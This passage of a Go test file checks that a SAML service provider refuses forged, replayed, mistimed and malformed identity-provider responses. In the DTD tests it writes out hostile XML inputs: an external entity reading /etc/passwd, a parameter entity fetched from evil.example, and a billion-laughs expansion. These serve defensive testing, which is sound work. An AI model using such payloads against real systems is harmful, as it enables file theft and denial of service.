			// goxmldsig's own signing context set to SHA-1, as crewjam's
			// IdP signs by default.
			return []testidp.Option{testidp.UnsignedAssertion(), testidp.AfterSigning(func(doc *etree.Document) {
				ctx, err := dsig.NewSigningContext(f.keys.idp.Signer, [][]byte{f.keys.idp.Cert.Raw})
				if err != nil {
					t.Fatal(err)
				}
				ctx.Canonicalizer = dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("")
				if err := ctx.SetSignatureMethod(dsig.RSASHA1SignatureMethod); err != nil {
					t.Fatal(err)
				}
				a := assertionOf(doc)
				signed, err := ctx.SignEnveloped(a)
				if err != nil {
					t.Fatal(err)
				}
				i := a.Index()
				doc.Root().RemoveChildAt(i)
				doc.Root().InsertChildAt(i, signed)
			})}
		}, reason: ReasonSHA1},
		{name: "rsa_sha1_sha256_digest", opts: manual(rsaSHA1, xmlsig.DigestSHA256, xmlsig.ExcC14N), reason: ReasonSHA1},
		{name: "rsa_sha256_sha1_digest", opts: manual(xmlsig.RSASHA256, digestSHA1, xmlsig.ExcC14N), reason: ReasonSHA1},
		{name: "hmac_sha256", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "ds:Signature/ds:SignedInfo/ds:SignatureMethod").CreateAttr("Algorithm", hmacSHA256)
		}), reason: ReasonBadAlgorithm},
		{name: "inclusive_c14n", opts: manual(xmlsig.RSASHA256, xmlsig.DigestSHA256, c14n11), reason: ReasonBadAlgorithm},
		{name: "sha1_on_signed_response", opts: func(t *testing.T, f *fixture) []testidp.Option {
			return []testidp.Option{testidp.AfterSigning(func(doc *etree.Document) {
				manualSign(t, doc.Root(), f.keys.idp.Signer.(*rsa.PrivateKey), rsaSHA1, digestSHA1, xmlsig.ExcC14N)
			})}
		}, reason: ReasonSHA1},
	})
}

func TestCase11_Audience(t *testing.T) {
	runRefusals(t, []refusalCase{
		{name: "audience_restriction_missing", opts: before(func(t *testing.T, doc *etree.Document) {
			c := mustFind(t, assertionOf(doc), pConds)
			c.RemoveChild(mustFind(t, c, "saml:AudienceRestriction"))
		}), reason: ReasonAudience},
		{name: "conditions_missing", opts: before(func(t *testing.T, doc *etree.Document) {
			a := assertionOf(doc)
			a.RemoveChild(mustFind(t, a, pConds))
		}), reason: ReasonAudience},
		{name: "audience_other_sp", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pAudience).SetText("https://other.example.se/sp")
		}), reason: ReasonAudience},
		{name: "audience_prefix_of_ours", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pAudience).SetText(spEntityID + "/x")
		}), reason: ReasonAudience},
		{name: "audience_empty_restriction", opts: before(func(t *testing.T, doc *etree.Document) {
			ar := mustFind(t, assertionOf(doc), "saml:Conditions/saml:AudienceRestriction")
			ar.RemoveChild(mustFind(t, ar, "saml:Audience"))
		}), reason: ReasonAudience},
		{name: "second_restriction_without_us", opts: before(func(t *testing.T, doc *etree.Document) {
			c := mustFind(t, assertionOf(doc), pConds)
			c.CreateElement("saml:AudienceRestriction").CreateElement("saml:Audience").SetText("https://other.example.se/sp")
		}), reason: ReasonAudience},
	})
}

func TestCase12_RecipientDestination(t *testing.T) {
	runRefusals(t, []refusalCase{
		{name: "recipient_other_acs", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pSCD).CreateAttr("Recipient", "https://other.example.se/acs")
		}), reason: ReasonRecipient},
		{name: "recipient_trailing_slash", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pSCD).CreateAttr("Recipient", acsURL+"/")
		}), reason: ReasonRecipient},
		{name: "recipient_missing", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pSCD).RemoveAttr("Recipient")
		}), reason: ReasonRecipient},
		{name: "destination_other_acs", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().CreateAttr("Destination", "https://other.example.se/acs")
		}), reason: ReasonDestination},
		{name: "destination_upper_case_host", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().CreateAttr("Destination", strings.Replace(acsURL, "bridge", "BRIDGE", 1))
		}), reason: ReasonDestination},
		{name: "destination_missing", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().RemoveAttr("Destination")
		}), reason: ReasonDestination},
		{name: "destination_http", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().CreateAttr("Destination", strings.Replace(acsURL, "https:", "http:", 1))
		}), reason: ReasonDestination},
	})
}

func TestCase13_InResponseTo(t *testing.T) {
	runRefusals(t, []refusalCase{
		{name: "idp_initiated_no_in_response_to", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			req.ID = ""
			return f.respond(req)
		}, reason: ReasonInResponseTo},
		{name: "unknown_request", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			req.ID = "_0123456789abcdef0123456789abcdef"
			return f.respond(req)
		}, reason: ReasonInResponseTo},
		{name: "not_our_id_format", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			req.ID = "id-with-other-shape"
			return f.respond(req)
		}, reason: ReasonInResponseTo},
		{name: "other_browser", binding: browserB, reason: ReasonBinding},
		{name: "response_and_confirmation_differ", opts: func(t *testing.T, f *fixture) []testidp.Option {
			// The unsigned Response names another pending request of the
			// same browser than the signed confirmation does.
			other := f.login(browserA)
			return []testidp.Option{testidp.AfterSigning(func(doc *etree.Document) {
				doc.Root().CreateAttr("InResponseTo", other.ID)
			})}
		}, reason: ReasonInResponseTo},
		{name: "confirmation_in_response_to_missing", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pSCD).RemoveAttr("InResponseTo")
		}), reason: ReasonInResponseTo},
		{name: "response_in_response_to_missing", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().RemoveAttr("InResponseTo")
		}), reason: ReasonInResponseTo},
	})
	// An empty binding in the table means browserA; test it directly.
	t.Run("empty_binding", func(t *testing.T) {
		f := newFixture(t)
		resp := f.respond(f.login(browserA))
		a, st, err := f.sp.HandleResponse(context.Background(), resp, "")
		var e *Error
		if a != nil || st != nil || !asError(err, &e) || e.Reason != ReasonBinding {
			t.Fatalf("got %v, %q, %v; want binding refusal", a != nil, st, err)
		}
	})
	t.Run("request_expired", func(t *testing.T) {
		f := newFixture(t)
		req := f.login(browserA)
		// The IdP answers late but within the assertion's own validity.
		f.clock.Set(t0.Add(DefaultRequestTTL))
		resp := f.respond(req)
		f.expectRefusal(t, f.sp, resp, browserA, ReasonInResponseTo, http.StatusBadRequest)
	})
	t.Run("other_browsers_fresh_response", func(t *testing.T) {
		// B gets a genuine response for A's request ID (e.g. a login CSRF
		// with A's request): B's binding does not match.
		f := newFixture(t)
		reqA := f.login(browserA)
		f.login(browserB)
		f.expectRefusal(t, f.sp, f.respond(reqA), browserB, ReasonBinding, http.StatusBadRequest)
	})
}

func asError(err error, e **Error) bool {
	x, ok := err.(*Error)
	*e = x
	return ok
}

// TestCase14_Clock: every time bound at exactly the skew (accepted) and
// one second past it (refused). The IdP issues at t0 with a 5 minute
// lifetime; hooks move single bounds so that each is the one tested.
func TestCase14_Clock(t *testing.T) {
	const skew = DefaultClockSkew
	set := func(path, attr string, v time.Time) testidp.Option {
		return testidp.BeforeSigning(func(doc *etree.Document) {
			el := assertionOf(doc)
			if path != "" {
				el = el.FindElement(path)
			}
			el.CreateAttr(attr, testidp.Timestamp(v))
		})
	}
	tests := []struct {
		name   string
		opts   []testidp.Option
		now    time.Time
		reason string // "" for accepted
	}{
		{"issue_instant_ahead_at_skew", nil, t0.Add(-skew), ""},
		{"issue_instant_ahead_past_skew", nil, t0.Add(-skew - time.Second), ReasonNotYetValid},
		{"conditions_not_before_at_skew", []testidp.Option{set(pConds, "NotBefore", t0.Add(time.Minute))}, t0.Add(time.Minute - skew), ""},
		{"conditions_not_before_past_skew", []testidp.Option{set(pConds, "NotBefore", t0.Add(time.Minute))}, t0.Add(time.Minute - skew - time.Second), ReasonNotYetValid},
		{"conditions_not_on_or_after_at_skew", []testidp.Option{set(pConds, "NotOnOrAfter", t0.Add(3*time.Minute))}, t0.Add(3*time.Minute + skew), ""},
		{"conditions_not_on_or_after_past_skew", []testidp.Option{set(pConds, "NotOnOrAfter", t0.Add(3*time.Minute))}, t0.Add(3*time.Minute + skew + time.Second), ReasonExpired},
		{"confirmation_not_on_or_after_at_skew", []testidp.Option{set(pSCD, "NotOnOrAfter", t0.Add(3*time.Minute))}, t0.Add(3*time.Minute + skew), ""},
		{"confirmation_not_on_or_after_past_skew", []testidp.Option{set(pSCD, "NotOnOrAfter", t0.Add(3*time.Minute))}, t0.Add(3*time.Minute + skew + time.Second), ReasonExpired},
		{"confirmation_not_before_at_skew", []testidp.Option{set(pSCD, "NotBefore", t0.Add(time.Minute))}, t0.Add(time.Minute - skew), ""},
		{"confirmation_not_before_past_skew", []testidp.Option{set(pSCD, "NotBefore", t0.Add(time.Minute))}, t0.Add(time.Minute - skew - time.Second), ReasonNotYetValid},
		{"session_not_on_or_after_at_skew", []testidp.Option{set(pAuthn, "SessionNotOnOrAfter", t0.Add(time.Minute))}, t0.Add(time.Minute + skew), ""},
		{"session_not_on_or_after_past_skew", []testidp.Option{set(pAuthn, "SessionNotOnOrAfter", t0.Add(time.Minute))}, t0.Add(time.Minute + skew + time.Second), ReasonExpired},
		{"lifetime_end_at_skew", nil, t0.Add(5*time.Minute + skew), ""},
		{"lifetime_end_past_skew", nil, t0.Add(5*time.Minute + skew + time.Second), ReasonExpired},
		// A long-lived assertion is still too old once RequestTTL+skew has
		// passed since it was issued.
		{"issue_instant_age_at_limit", []testidp.Option{testidp.Lifetime(time.Hour)}, t0.Add(DefaultRequestTTL + skew), ""},
		{"issue_instant_age_past_limit", []testidp.Option{testidp.Lifetime(time.Hour)}, t0.Add(DefaultRequestTTL + skew + time.Second), ReasonExpired},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			// Start the login so that the pending request is alive at
			// tc.now (it lives RequestTTL from StartLogin).
			f.clock.Set(tc.now.Add(-time.Second))
			req := f.login(browserA)
			f.clock.Set(t0)
			resp := f.respond(req, tc.opts...)
			f.clock.Set(tc.now)
			if tc.reason == "" {
				f.expectSuccess(t, f.sp, resp, browserA)
				return
			}
			f.expectRefusal(t, f.sp, resp, browserA, tc.reason, http.StatusBadRequest)
		})
	}
}

func TestCase15_Replay(t *testing.T) {
	t.Run("same_instance", func(t *testing.T) {
		f := newFixture(t)
		resp := f.respond(f.login(browserA))
		a := f.expectSuccess(t, f.sp, resp, browserA)
		f.expectRefusal(t, f.sp, resp, browserA, ReasonReplay, http.StatusBadRequest)
		// The cache entry lives exactly as long as the assertion could be
		// accepted: lifetime 5m + skew 2m, plus a second for the store.
		key := replayKeyPrefix + idpEntityID + "|" + a.ID
		if got, want := f.store.ttl(key), 5*time.Minute+DefaultClockSkew+time.Second; got != want {
			t.Errorf("replay TTL = %v, want %v", got, want)
		}
	})
	t.Run("second_instance_shared_store", func(t *testing.T) {
		f := newFixture(t)
		resp := f.respond(f.login(browserA))
		f.expectSuccess(t, f.sp, resp, browserA)
		f.expectRefusal(t, f.secondSP(), resp, browserA, ReasonReplay, http.StatusBadRequest)
	})
	t.Run("replay_with_fresh_request_of_same_id", func(t *testing.T) {
		// Even if the pending request existed again (it cannot, IDs are
		// random; here it is put back by hand), the replay cache refuses.
		f := newFixture(t)
		req := f.login(browserA)
		key := requestKeyPrefix + req.ID
		saved, err := f.store.Get(context.Background(), key)
		if err != nil {
			t.Fatal(err)
		}
		resp := f.respond(req)
		f.expectSuccess(t, f.sp, resp, browserA)
		if err := f.store.Put(context.Background(), key, saved, time.Minute); err != nil {
			t.Fatal(err)
		}
		f.expectRefusal(t, f.sp, resp, browserA, ReasonReplay, http.StatusBadRequest)
	})
	t.Run("after_cache_expiry_assertion_is_expired", func(t *testing.T) {
		// Once the replay entry is gone, the assertion's own time bounds
		// refuse it: the cache never needs to remember longer.
		f := newFixture(t)
		resp := f.respond(f.login(browserA))
		f.expectSuccess(t, f.sp, resp, browserA)
		f.clock.Set(t0.Add(5*time.Minute + DefaultClockSkew + time.Second))
		f.expectRefusal(t, f.sp, resp, browserA, ReasonExpired, http.StatusBadRequest)
	})
}

func TestCase16_Encrypted(t *testing.T) {
	encAssertion := func() *etree.Element {
		// What an IdP encrypting with RSA-1_5 and AES-CBC sends; the
		// content is never looked at.
		ea := etree.NewElement("saml:EncryptedAssertion")
		ed := ea.CreateElement("xenc:EncryptedData")
		ed.CreateAttr("xmlns:xenc", samlxml.NSXMLEnc)
		ed.CreateAttr("Type", "http://www.w3.org/2001/04/xmlenc#Element")
		ed.CreateElement("xenc:EncryptionMethod").CreateAttr("Algorithm", "http://www.w3.org/2001/04/xmlenc#aes128-cbc")
		ki := ed.CreateElement("ds:KeyInfo")
		ki.CreateAttr("xmlns:ds", samlxml.NSDSig)
		ek := ki.CreateElement("xenc:EncryptedKey")
		ek.CreateElement("xenc:EncryptionMethod").CreateAttr("Algorithm", "http://www.w3.org/2001/04/xmlenc#rsa-1_5")
		ek.CreateElement("xenc:CipherData").CreateElement("xenc:CipherValue").SetText("AAAA")
		ed.CreateElement("xenc:CipherData").CreateElement("xenc:CipherValue").SetText("AAAA")
		return ea
	}
	runRefusals(t, []refusalCase{
		{name: "encrypted_assertion_rsa15_cbc", opts: after(func(t *testing.T, doc *etree.Document) {
			a := assertionOf(doc)
			i := a.Index()
			doc.Root().RemoveChild(a)
			doc.Root().InsertChildAt(i, encAssertion())
		}), reason: ReasonEncryptedUnsupported},
		{name: "encrypted_beside_signed", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().AddChild(encAssertion())
		}), reason: ReasonEncryptedUnsupported},
		{name: "encrypted_id", opts: before(func(t *testing.T, doc *etree.Document) {
			n := mustFind(t, assertionOf(doc), pNameID)
			s := n.Parent()
			i := n.Index()
			s.RemoveChild(n)
			eid := etree.NewElement("saml:EncryptedID")
			eid.AddChild(encAssertion().ChildElements()[0])
			s.InsertChildAt(i, eid)
		}), reason: ReasonEncryptedUnsupported},
		{name: "encrypted_attribute", opts: before(func(t *testing.T, doc *etree.Document) {
			st := mustFind(t, assertionOf(doc), "saml:AttributeStatement")
			ea := st.CreateElement("saml:EncryptedAttribute")
			ea.AddChild(encAssertion().ChildElements()[0])
		}), reason: ReasonEncryptedUnsupported},
	})
	t.Run("same_error_shape_as_others", func(t *testing.T) {
		f := newFixture(t)
		req := f.login(browserA)
		resp := f.respond(req, testidp.AfterSigning(func(doc *etree.Document) {
			doc.Root().RemoveChild(assertionOf(doc))
			doc.Root().AddChild(encAssertion())
		}))
		e := f.expectRefusal(t, f.sp, resp, browserA, ReasonEncryptedUnsupported, http.StatusBadRequest)
		other := f.expectRefusal(t, f.sp, f.respond(req, testidp.UnsignedAssertion()), browserA, ReasonUnsigned, http.StatusBadRequest)
		if e.UpstreamStatus != "" || e.Status != other.Status ||
			strings.Count(e.Error(), ":") != strings.Count(other.Error(), ":") {
			t.Errorf("encrypted refusal %q differs in shape from %q", e.Error(), other.Error())
		}
		// Nothing was consumed: the pending request is still there.
		if _, err := f.store.Get(context.Background(), requestKeyPrefix+req.ID); err != nil {
			t.Errorf("refused encrypted response consumed the pending request: %v", err)
		}
	})
}

func TestCase17_DTD(t *testing.T) {
	const head = `<?xml version="1.0"?>`
	const resp = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a" Version="2.0">&x;</samlp:Response>`
	raw := func(s string) func(*testing.T, *fixture, testidp.Request) string {
		return func(*testing.T, *fixture, testidp.Request) string { return encode(s) }
	}
	laughs := `<!DOCTYPE r [<!ENTITY x "lol">`
	for i := 1; i < 10; i++ {
		laughs += `<!ENTITY x` + string(rune('0'+i)) + ` "&x;&x;&x;&x;&x;&x;&x;&x;&x;&x;">`
	}
	laughs += `]>`
	runRefusals(t, []refusalCase{
		{name: "external_entity", raw: raw(head + `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + resp), reason: ReasonDTD},
		{name: "parameter_entity", raw: raw(head + `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>` + resp), reason: ReasonDTD},
		{name: "billion_laughs", raw: raw(head + laughs + resp), reason: ReasonDTD},
		{name: "doctype_only", raw: raw(head + `<!DOCTYPE samlp:Response>` + resp), reason: ReasonDTD},
		{name: "doctype_inside_valid_response", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			return encode(`<!DOCTYPE r>` + decode(t, f.respond(req)))
		}, reason: ReasonDTD},
	})
}

func TestCase18_Limits(t *testing.T) {
	runRefusals(t, []refusalCase{
		{name: "huge_body", raw: func(*testing.T, *fixture, testidp.Request) string {
			return strings.Repeat("A", 4*samlxml.MaxMessageBytes)
		}, reason: ReasonTooLarge, status: http.StatusRequestEntityTooLarge},
		{name: "huge_xml_in_valid_response", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			s := decode(t, f.respond(req))
			return encode(strings.Replace(s, "<samlp:Status>", "<samlp:Status>"+strings.Repeat(" ", samlxml.MaxMessageBytes), 1))
		}, reason: ReasonTooLarge, status: http.StatusRequestEntityTooLarge},
		{name: "deep_nesting", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			s := decode(t, f.respond(req))
			deep := strings.Repeat("<samlp:Extensions>", 200) + strings.Repeat("</samlp:Extensions>", 200)
			return encode(strings.Replace(s, "<samlp:Status>", deep+"<samlp:Status>", 1))
		}, reason: ReasonTooDeep},
		{name: "thousands_of_namespaces", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			s := decode(t, f.respond(req))
			var sb strings.Builder
			for i := range 5000 {
				sb.WriteString(` xmlns:n` + strings.Repeat("x", i%7) + string(rune('a'+i%26)) + `="urn:n"`)
			}
			return encode(strings.Replace(s, "<samlp:Status>", "<samlp:Status"+sb.String()+">", 1))
		}, reason: ReasonTooManyNamespaces},
		// Tens of thousands of attributes on one element: once a
		// quadratic duplicate check, now refused at the 65th by the first
		// pass; BenchmarkHostileAttributes times it.
		{name: "forty_thousand_attributes", raw: func(*testing.T, *fixture, testidp.Request) string {
			return encode(manyAttributes())
		}, reason: ReasonTooManyNodes},
	})
}

func manyAttributes() string {
	var sb strings.Builder
	sb.WriteString(`<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a" Version="2.0"><samlp:Status`)
	for i := 0; sb.Len() < samlxml.MaxMessageBytes-64; i++ {
		sb.WriteString(` a` + strconv.FormatInt(int64(i), 36) + `=""`)
	}
	sb.WriteString(`/></samlp:Response>`)
	return sb.String()
}

func TestCase20_Status(t *testing.T) {
	const (
		responder   = "urn:oasis:names:tc:SAML:2.0:status:Responder"
		authnFailed = "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"
	)
	t.Run("authn_failed", func(t *testing.T) {
		f := newFixture(t)
		req := f.login(browserA)
		e := f.expectRefusal(t, f.sp, f.respond(req, testidp.Status(responder, authnFailed)), browserA, ReasonStatus, http.StatusForbidden)
		if e.UpstreamStatus != responder || e.UpstreamSubStatus != authnFailed {
			t.Errorf("upstream status = %q / %q", e.UpstreamStatus, e.UpstreamSubStatus)
		}
		// The pending request is consumed: a later success for it fails.
		f.expectRefusal(t, f.sp, f.respond(req), browserA, ReasonInResponseTo, http.StatusBadRequest)
	})
	t.Run("signed_error_response", func(t *testing.T) {
		f := newFixture(t)
		e := f.expectRefusal(t, f.sp, f.respond(f.login(browserA), testidp.Status(responder, ""), testidp.SignResponse()), browserA, ReasonStatus, http.StatusForbidden)
		if e.UpstreamStatus != responder || e.UpstreamSubStatus != "" {
			t.Errorf("upstream status = %q / %q", e.UpstreamStatus, e.UpstreamSubStatus)
		}
	})
	t.Run("unknown_status_uri_not_passed_on", func(t *testing.T) {
		f := newFixture(t)
		e := f.expectRefusal(t, f.sp, f.respond(f.login(browserA), testidp.Status("urn:x:Anna Andersson 201203149826", "urn:x:y")), browserA, ReasonStatus, http.StatusForbidden)
		if e.UpstreamStatus != "other" || e.UpstreamSubStatus != "other" {
			t.Errorf("upstream status = %q / %q; want other/other", e.UpstreamStatus, e.UpstreamSubStatus)
		}
	})
	runRefusals(t, []refusalCase{
		{name: "other_browser", opts: opts(testidp.Status(responder, authnFailed)), binding: browserB, reason: ReasonBinding},
		{name: "unknown_request", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			req.ID = "_0123456789abcdef0123456789abcdef"
			return f.respond(req, testidp.Status(responder, ""))
		}, reason: ReasonInResponseTo},
		{name: "without_in_response_to", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			req.ID = ""
			return f.respond(req, testidp.Status(responder, ""))
		}, reason: ReasonInResponseTo},
		{name: "error_status_with_assertion", opts: func(t *testing.T, f *fixture) []testidp.Option {
			return []testidp.Option{testidp.AfterSigning(func(doc *etree.Document) {
				mustFind(t, doc.Root(), "samlp:Status/samlp:StatusCode").CreateAttr("Value", responder)
			})}
		}, reason: ReasonAssertionCount},
		{name: "signed_error_response_tampered", opts: func(t *testing.T, f *fixture) []testidp.Option {
			return []testidp.Option{testidp.Status(responder, ""), testidp.SignResponse(), testidp.AfterSigning(func(doc *etree.Document) {
				mustFind(t, doc.Root(), "samlp:Status/samlp:StatusCode").CreateAttr("Value", "urn:oasis:names:tc:SAML:2.0:status:Requester")
			})}
		}, reason: ReasonBadSignature},
	})
}

// TestErrorsCarryNoPersonalData runs refusals for the protected pupil and
// checks every error in the chain (expectRefusal checks every refusal in
// this package the same way).
func TestErrorsCarryNoPersonalData(t *testing.T) {
	mutations := map[string]testidp.Option{
		"bad_signature": testidp.AfterSigning(func(doc *etree.Document) {
			mustFind(t, assertionOf(doc), pNameID).SetText("x")
		}),
		"comment": testidp.AfterSigning(func(doc *etree.Document) {
			attrValue(t, assertionOf(doc), testidp.AttrPersonalNumber).CreateComment("")
		}),
		"audience": testidp.BeforeSigning(func(doc *etree.Document) {
			mustFind(t, assertionOf(doc), pAudience).SetText("201203149826")
		}),
		"malformed": testidp.BeforeSigning(func(doc *etree.Document) {
			mustFind(t, assertionOf(doc), "saml:AttributeStatement/saml:Attribute").CreateElement("x:Evil").CreateAttr("xmlns:x", "urn:x")
		}),
		"issuer": testidp.BeforeSigning(func(doc *etree.Document) {
			mustFind(t, assertionOf(doc), "saml:Issuer").SetText("Anna Andersson")
		}),
		"recipient": testidp.BeforeSigning(func(doc *etree.Document) {
			mustFind(t, assertionOf(doc), pSCD).CreateAttr("Recipient", "https://x/201203149826")
		}),
		"in_response_to": testidp.AfterSigning(func(doc *etree.Document) {
			doc.Root().CreateAttr("InResponseTo", "_201203149826_Anna")
		}),
		"destination": testidp.AfterSigning(func(doc *etree.Document) {
			doc.Root().CreateAttr("Destination", "https://x/201203149826")
		}),
		"bad_time": testidp.BeforeSigning(func(doc *etree.Document) {
			mustFind(t, assertionOf(doc), pConds).CreateAttr("NotBefore", "201203149826")
		}),
	}
	for name, m := range mutations {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t)
			f.user, _ = f.idp.User("eva.e")
			_, _, err := f.sp.HandleResponse(context.Background(), f.respond(f.login(browserA), m), browserA)
			if err == nil {
				t.Fatal("mutated response accepted")
			}
			f.checkNoPersonalData(t, err)
		})
	}
}

// x509 is used by the rollover cases in samlsp_test.go.
var _ = x509.ParseCertificate

// TestCase13_OtherBrowserDoesNotBlockVictim: whoever holds a victim's
// response (issue 19) and posts it from another browser is refused, and the
// refusal consumes nothing: neither the pending login nor the assertion's
// place in the replay cache. The victim's own post then succeeds, once.
func TestCase13_OtherBrowserDoesNotBlockVictim(t *testing.T) {
	const (
		responder   = "urn:oasis:names:tc:SAML:2.0:status:Responder"
		authnFailed = "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"
	)
	t.Run("success", func(t *testing.T) {
		f := newFixture(t)
		resp := f.respond(f.login(browserA))
		f.expectRefusal(t, f.sp, resp, browserB, ReasonBinding, http.StatusBadRequest)
		f.expectRefusal(t, f.sp, resp, browserB, ReasonBinding, http.StatusBadRequest)
		f.expectSuccess(t, f.sp, resp, browserA)
		f.expectRefusal(t, f.sp, resp, browserA, ReasonReplay, http.StatusBadRequest)
	})
	t.Run("second_instance", func(t *testing.T) {
		// The attacker's post reaches another instance sharing the store.
		f := newFixture(t)
		resp := f.respond(f.login(browserA))
		f.expectRefusal(t, f.secondSP(), resp, browserB, ReasonBinding, http.StatusBadRequest)
		f.expectSuccess(t, f.sp, resp, browserA)
	})
	t.Run("error_status", func(t *testing.T) {
		// The victim's error response, posted elsewhere first, still ends
		// the victim's login with the IdP's status, not as unknown.
		f := newFixture(t)
		resp := f.respond(f.login(browserA), testidp.Status(responder, authnFailed))
		f.expectRefusal(t, f.sp, resp, browserB, ReasonBinding, http.StatusBadRequest)
		f.expectRefusal(t, f.sp, resp, browserA, ReasonStatus, http.StatusForbidden)
	})
	t.Run("nothing_recorded", func(t *testing.T) {
		f := newFixture(t)
		resp := f.respond(f.login(browserA))
		before := len(f.store.keys())
		f.expectRefusal(t, f.sp, resp, browserB, ReasonBinding, http.StatusBadRequest)
		for _, k := range f.store.keys() {
			if strings.HasPrefix(k, replayKeyPrefix) {
				t.Errorf("refused post recorded %s", k)
			}
		}
		if after := len(f.store.keys()); after != before {
			t.Errorf("store keys %d -> %d after a refused post", before, after)
		}
	})
}
